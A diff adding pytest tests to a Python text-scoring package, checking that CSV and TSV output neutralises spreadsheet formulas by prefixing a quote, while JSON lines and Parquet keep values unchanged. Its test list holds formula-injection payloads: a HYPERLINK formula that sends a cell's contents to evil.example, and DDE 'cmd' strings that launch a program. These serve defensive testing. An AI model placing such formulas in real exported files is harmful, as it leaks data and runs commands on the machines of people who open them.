@@ -40,3 +40,44 @@ def test_a_table_of_more_columns_than_the_cap_is_refused_in_one_line(suffix, tmp
     with pytest.raises(DataError, match=rf"wide{suffix}: {MAX_COLUMNS + 1} columns; a table may have at most "
                                         rf"{MAX_COLUMNS}"):
         read_table(path)
+
+
+# ---------------------------------------------------------------- spreadsheet formulas in CSV output
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
+def test_csv_output_neutralises_formulas_and_keeps_numbers_and_plain_text(suffix, tmp_path):
+    from pragmeter.io.tables import write_table
+
+    texts = [*FORMULAS, "-0.5", "+3", "a = b", "It is late.", "- a list item"]
+    frame = pd.DataFrame({"text": texts, "score": [-1.5] * len(texts), "=evil": range(len(texts))})
+    write_table(frame, tmp_path / f"out{suffix}")
+    back = read_table(tmp_path / f"out{suffix}")
+    assert list(back.columns) == ["text", "score", "'=evil"]
+    assert back["text"].tolist() == [*("'" + f for f in FORMULAS), "-0.5", "+3", "a = b", "It is late.",
+                                     "'- a list item"]
+    assert back["score"].astype(float).tolist() == [-1.5] * len(texts)  # numbers are numbers, never prefixed
+    assert frame["text"].tolist() == texts and "=evil" in frame.columns  # the caller's frame is not changed
+
+
+@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
+def test_parquet_and_json_lines_output_keep_every_value_as_it_is(suffix, tmp_path):
+    from pragmeter.io.tables import write_table
+
+    frame = pd.DataFrame({"text": FORMULAS, "=evil": range(len(FORMULAS))})
+    write_table(frame, tmp_path / f"out{suffix}")
+    back = read_table(tmp_path / f"out{suffix}")
+    assert back["text"].tolist() == FORMULAS and "=evil" in back.columns
+
+
+def test_score_writes_a_formula_from_its_input_as_text(tmp_path):
+    """The real command: a hostile cell read from the input comes out of `score --output x.csv` neutralised."""
+    from pragmeter.cli import main
+
+    source = tmp_path / "in.jsonl"
+    source.write_text("".join(json.dumps({"text": text}) + "\n" for text in FORMULAS[:2]), encoding="utf-8")
+    assert main(["score", "--input", str(source), "--output", str(tmp_path / "out.csv"), "--no-cache",
+                 "--impscore", "impscore-minilm", "--backend", "torch", "--no-progress"]) == 0
+    assert read_table(tmp_path / "out.csv")["text"].tolist() == ["'" + text for text in FORMULAS[:2]]
